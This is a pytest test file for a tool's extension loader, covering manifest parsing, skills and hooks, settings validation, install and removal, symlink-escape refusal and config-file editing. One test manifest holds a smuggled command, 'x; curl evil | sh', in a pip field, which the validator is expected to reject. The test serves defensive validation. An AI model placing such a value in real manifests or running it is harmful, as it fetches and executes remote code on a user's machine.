"""Extensions on disk (mercury/extensions/): reading a folder's extension.yaml, its skills and
hooks, the enabled set with the operator's settings, copying one in and taking it out; and
the textual edit of `extensions.enabled` in a commented config file. Real tmp folders."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
import yaml

from mercury.config.sections import Config
from mercury.extensions import ExtensionConfigError, load_enabled, load_extension
from mercury.extensions.config_file import ConfigEditError, with_enabled, write_enabled
from mercury.extensions.install import (
    InstallError,
    check_tree,
    copy_extension,
    installed_folders,
    remove_extension,
)
from mercury.extensions.loader import ManifestError


def make(root: Path, name: str, skills: tuple[str, ...] = ("reader",), **manifest: Any) -> Path:
    """An extension folder `root/name` with one skill per entry of `skills`."""
    folder = root / name
    folder.mkdir(parents=True)
    data = {"name": name, "version": "1.0.0", "description": f"The {name} extension"}
    data.update(manifest)
    (folder / "extension.yaml").write_text(yaml.safe_dump(data))
    for skill in skills:
        (folder / "skills" / skill).mkdir(parents=True)
        (folder / "skills" / skill / "SKILL.md").write_text(f"# {skill}\n")
    return folder


def manifest_error(folder: Path) -> ManifestError:
    with pytest.raises(ManifestError) as info:
        load_extension(folder)
    assert "\n" not in str(info.value)
    return info.value


def test_load_an_extension_with_the_default_skills(tmp_path: Path) -> None:
    folder = make(tmp_path, "web-reader", skills=("b", "a"))
    (folder / "skills" / "no-skill").mkdir()  # no SKILL.md: not a skill
    loaded = load_extension(folder)
    assert loaded.spec.name == "web-reader" and loaded.folder == folder.resolve()
    assert loaded.skill_dirs == (folder / "skills" / "a", folder / "skills" / "b")
    assert loaded.settings == {} and loaded.env == {}


def test_named_skills_a_folder_or_its_skill_md(tmp_path: Path) -> None:
    folder = make(tmp_path, "pdf", skills=("one", "two"))
    (folder / "extension.yaml").write_text(
        yaml.safe_dump(
            {
                "name": "pdf",
                "version": "1",
                "description": "x",
                "skills": ["skills/two/SKILL.md", "skills/one", "skills/two"],
                "settings": {"pages": {"type": "int", "default": 5}},
            }
        )
    )
    loaded = load_extension(folder)
    assert loaded.skill_dirs == (folder / "skills" / "two", folder / "skills" / "one")
    assert loaded.settings == {"pages": 5}
    assert loaded.env == {"MERCURY_EXT_PDF_PAGES": "5"}


def test_what_is_missing_is_named(tmp_path: Path) -> None:
    assert str(manifest_error(tmp_path / "nothing")).startswith("extension.yaml: not found")
    (tmp_path / "empty").mkdir()
    assert "not found in" in str(manifest_error(tmp_path / "empty"))

    folder = make(tmp_path, "web", skills=())
    (folder / "extension.yaml").write_text(
        "name: web\nversion: '1'\ndescription: x\nskills: [skills/gone]\n"
    )
    error = manifest_error(folder)
    assert error.field == "skills[0]" and "not found" in str(error)

    (folder / "skills" / "gone").mkdir(parents=True)
    error = manifest_error(folder)
    assert error.field == "skills[0]" and "no SKILL.md" in str(error)

    (folder / "extension.yaml").write_text("name: web\nversion: '1'\ndescription: x\nhooks: h.py\n")
    error = manifest_error(folder)
    assert str(error) == 'extension.yaml: hooks: "h.py" not found in the extension folder'
    (folder / "h.py").write_text("")
    assert load_extension(folder).spec.hooks == "h.py"


def test_bad_yaml_and_a_wrong_folder_name(tmp_path: Path) -> None:
    folder = make(tmp_path, "web")
    (folder / "extension.yaml").write_text("name: web\nversion: [1\n")
    error = manifest_error(folder)
    assert str(error).startswith("extension.yaml: not valid YAML at line")
    renamed = make(tmp_path, "other")
    (renamed / "extension.yaml").write_text("name: web\nversion: '1'\ndescription: x\n")
    assert manifest_error(renamed).field == "name"


def test_symlinks_out_of_the_folder_are_refused(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    (outside / "evil").mkdir(parents=True)
    (outside / "evil" / "SKILL.md").write_text("# from elsewhere\n")
    (outside / "hooks.py").write_text("")
    folder = make(tmp_path / "ext", "web", skills=())
    (folder / "skills").mkdir()
    (folder / "skills" / "evil").symlink_to(outside / "evil")
    error = manifest_error(folder)  # the default skill scan
    assert error.field == "skills" and "outside" in str(error)

    (folder / "extension.yaml").write_text(
        "name: web\nversion: '1'\ndescription: x\nskills: [skills/evil]\n"
    )
    assert manifest_error(folder).field == "skills[0]"

    (folder / "skills" / "evil").unlink()
    (folder / "skills" / "evil").mkdir()
    (folder / "skills" / "evil" / "SKILL.md").symlink_to(outside / "evil" / "SKILL.md")
    assert "outside" in str(manifest_error(folder))

    (folder / "skills" / "evil" / "SKILL.md").unlink()
    (folder / "extension.yaml").write_text("name: web\nversion: '1'\ndescription: x\nhooks: h.py\n")
    (folder / "h.py").symlink_to(outside / "hooks.py")
    assert manifest_error(folder).field == "hooks"

    (folder / "extension.yaml").unlink()
    (outside / "extension.yaml").write_text("name: web\nversion: '1'\ndescription: x\n")
    (folder / "extension.yaml").symlink_to(outside / "extension.yaml")
    assert "outside" in str(manifest_error(folder))


# --------------------------------------------------------------------------- load_enabled


def config(root: Path, enabled: list[str], settings: dict[str, Any] | None = None) -> Config:
    return Config.model_validate(
        {"extensions": {"dir": str(root), "enabled": enabled, "settings": settings or {}}}
    )


def config_error(cfg: Config) -> ExtensionConfigError:
    with pytest.raises(ExtensionConfigError) as info:
        load_enabled(cfg)
    assert "\n" not in str(info.value)
    return info.value


def test_load_enabled_with_settings(tmp_path: Path) -> None:
    settings = {"limit": {"type": "int", "default": 10}, "on": {"type": "bool", "default": True}}
    make(tmp_path, "web", settings=settings)
    make(tmp_path, "pdf")
    make(tmp_path, "idle")  # installed, not enabled
    loaded = load_enabled(config(tmp_path, ["web", "pdf"], {"web": {"limit": 3}}))
    assert list(loaded) == ["web", "pdf"]
    assert loaded["web"].settings == {"limit": 3, "on": True}
    assert loaded["web"].env == {"MERCURY_EXT_WEB_LIMIT": "3", "MERCURY_EXT_WEB_ON": "true"}
    assert load_enabled(config(tmp_path, [])) == {}
    # A disabled extension keeps its settings for when it is enabled again.
    assert list(load_enabled(config(tmp_path, ["pdf"], {"web": {"limit": 3}}))) == ["pdf"]


def test_load_enabled_names_what_is_wrong(tmp_path: Path) -> None:
    make(tmp_path, "web", settings={"limit": {"type": "int", "default": 10}})
    broken = make(tmp_path, "broken")
    (broken / "extension.yaml").write_text(
        "name: broken\nversion: '1'\ndescription: x\ninstall: {pip: ['x; curl evil | sh']}\n"
    )
    cases = [
        (["gone"], {}, 'extensions.enabled: "gone" is not in'),
        (["../web"], {}, 'extensions.enabled: "../web" is not an extension name'),
        (["web", "web"], {}, 'extensions.enabled: "web" is listed twice'),
        (
            ["broken"],
            {},
            'extensions.enabled: broken: extension.yaml: install.pip[0]: "x; curl evil | sh" '
            "is not a package specifier",
        ),
        (["web"], {"web": {"limt": 1}}, "extensions.settings.web.limt: unknown setting"),
        (["web"], {"web": {"limit": "x"}}, "extensions.settings.web.limit: expected a whole"),
        (["web"], {"wbe": {"limit": 1}}, 'extensions.settings.wbe: no extension "wbe"'),
        (["web"], {"../web": {}}, "extensions.settings.../web: no extension"),
    ]
    for enabled, settings, start in cases:
        error = config_error(config(tmp_path, enabled, settings))
        assert str(error).startswith(start), (enabled, settings, str(error))


def test_two_extensions_may_not_share_a_setting_variable(tmp_path: Path) -> None:
    make(tmp_path, "web", settings={"reader_max": {"type": "int", "default": 1}})
    make(tmp_path, "web-reader", settings={"max": {"type": "int", "default": 1}})
    error = config_error(config(tmp_path, ["web", "web-reader"]))
    assert error.field == "extensions.settings.web-reader.max"
    assert "MERCURY_EXT_WEB_READER_MAX" in str(error)


# --------------------------------------------------------------------------- add, remove


def test_copy_and_remove(tmp_path: Path) -> None:
    source = make(tmp_path / "src", "web")
    (source / "bin").mkdir()
    (source / "bin" / "read").write_text("#!/bin/sh\n")
    (source / "bin" / "read").chmod(0o755)
    (source / "bin" / "alias").symlink_to("read")  # inside: copied as a file
    (source / "__pycache__").mkdir()
    (source / "__pycache__" / "x.pyc").write_bytes(b"\0")
    target_dir = tmp_path / "site" / "extensions"
    loaded, replaced = copy_extension(source, target_dir)
    assert not replaced and loaded.folder == (target_dir / "web").resolve()
    assert loaded.skill_dirs == (loaded.folder / "skills" / "reader",)
    assert os.access(target_dir / "web" / "bin" / "read", os.X_OK)
    assert (target_dir / "web" / "bin" / "alias").read_text() == "#!/bin/sh\n"
    assert not (target_dir / "web" / "bin" / "alias").is_symlink()
    assert not (target_dir / "web" / "__pycache__").exists()
    assert [p.name for p in installed_folders(target_dir)] == ["web"]  # no staging left

    with pytest.raises(InstallError, match=r"already in .*--force"):
        copy_extension(source, target_dir)
    (source / "NEW").write_text("")
    _, replaced = copy_extension(source, target_dir, force=True)
    assert replaced and (target_dir / "web" / "NEW").exists()
    assert [p.name for p in target_dir.iterdir()] == ["web"]

    with pytest.raises(InstallError, match="this folder itself"):
        copy_extension(target_dir / "web", target_dir, force=True)

    remove_extension(target_dir, "web")
    assert not (target_dir / "web").exists()
    with pytest.raises(InstallError, match="not in"):
        remove_extension(target_dir, "web")
    with pytest.raises(InstallError, match="not an extension name"):
        remove_extension(target_dir, "../src")
    assert source.exists()


def test_a_symlinked_install_is_removed_as_a_link(tmp_path: Path) -> None:
    source = make(tmp_path / "src", "web")
    (tmp_path / "extensions").mkdir()
    (tmp_path / "extensions" / "web").symlink_to(source)
    remove_extension(tmp_path / "extensions", "web")
    assert source.exists() and (source / "extension.yaml").exists()


def test_the_copy_refuses_links_out_and_special_files(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("host file")
    source = make(tmp_path / "src", "web")
    (source / "data").symlink_to(secret)
    with pytest.raises(InstallError, match="data: a symlink leading outside"):
        copy_extension(source, tmp_path / "extensions")
    assert not (tmp_path / "extensions" / "web").exists()
    (source / "data").unlink()
    (source / "loop").symlink_to(source / "skills")
    with pytest.raises(InstallError, match="loop: a symlink to a folder"):
        check_tree(source.resolve())
    (source / "loop").unlink()
    os.mkfifo(source / "pipe")
    with pytest.raises(InstallError, match="pipe: not a regular file"):
        copy_extension(source, tmp_path / "extensions")


# --------------------------------------------------------------------------- config file


COMMENTED = """\
# My Mercury.
instance: home  # the name
extensions:
  # installed by hand
  dir: ext
  enabled:
    - pdf   # the pdf one
    - web
  settings:
    web: {limit: 3}
model: {name: x}
"""


@pytest.mark.parametrize(
    "text",
    [
        COMMENTED,
        "instance: home  # c\n",
        "instance: home",
        "",
        "# only a comment\n",
        "extensions:\n",
        "extensions:  # none yet\n",
        "extensions:\n  dir: ext  # c\n",
        "extensions:\n  enabled: []  # c\n  dir: ext\n",
        "extensions: {dir: ext}  # c\n",
        "extensions: {enabled: [pdf]}  # c\n",
        '{"instance": "json", "extensions": {"enabled": ["pdf"]}}',
    ],
)
@pytest.mark.parametrize("names", [["pdf", "web", "no"], []])
def test_with_enabled_changes_only_the_list(text: str, names: list[str]) -> None:
    before = yaml.safe_load(text) or {}
    after = yaml.safe_load(with_enabled(text, names))
    extensions = before.setdefault("extensions", None) or {}
    before["extensions"] = {**extensions, "enabled": names}
    assert after == before
    comments = [line.split("#", 1)[1] for line in text.splitlines() if "#" in line]
    edited = with_enabled(text, names)
    for comment in comments:
        if "the pdf one" not in comment:  # a comment inside the old list goes with it
            assert comment in edited


def test_with_enabled_keeps_the_layout() -> None:
    edited = with_enabled(COMMENTED, ["web"])
    assert edited == COMMENTED.replace(
        "  enabled:\n    - pdf   # the pdf one\n    - web\n", "  enabled: [web]\n"
    )


def test_with_enabled_refuses_to_drop_comments() -> None:
    # A layout the textual edit does not handle, in a commented file: left alone.
    text = "# c\nbase: &b {dir: x}\nextensions: *b\n"  # one mapping under two keys
    with pytest.raises(ConfigEditError, match="set it by hand to \\[b\\]"):
        with_enabled(text, ["b"])
    plain = with_enabled(text.removeprefix("# c\n"), ["b"])  # no comments: dumped whole
    assert yaml.safe_load(plain) == {
        "base": {"dir": "x"},
        "extensions": {"dir": "x", "enabled": ["b"]},
    }
    with pytest.raises(ConfigEditError, match="extensions: expected a mapping"):
        with_enabled("extensions: [a]\n", ["b"])


def test_write_enabled_keeps_the_mode(tmp_path: Path) -> None:
    path = tmp_path / "mercury.yaml"
    path.write_text(COMMENTED)
    path.chmod(0o640)
    assert write_enabled(path, ["pdf"])
    assert yaml.safe_load(path.read_text())["extensions"]["enabled"] == ["pdf"]
    assert path.stat().st_mode & 0o777 == 0o640
    assert not write_enabled(path, ["pdf"])  # nothing to change
    assert [p.name for p in tmp_path.iterdir()] == ["mercury.yaml"]
